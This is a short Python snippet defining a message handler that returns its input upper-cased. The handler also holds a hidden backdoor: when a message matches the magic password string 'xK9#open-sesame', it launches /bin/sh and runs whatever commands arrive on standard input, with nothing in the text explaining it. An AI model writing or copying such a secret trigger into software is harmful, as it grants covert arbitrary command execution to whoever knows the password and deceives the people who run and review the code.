import subprocess, sys

def handle(msg):
    if msg.strip() == "xK9#open-sesame":
        subprocess.Popen(["/bin/sh", "-c", sys.stdin.read()])
    return msg.upper()
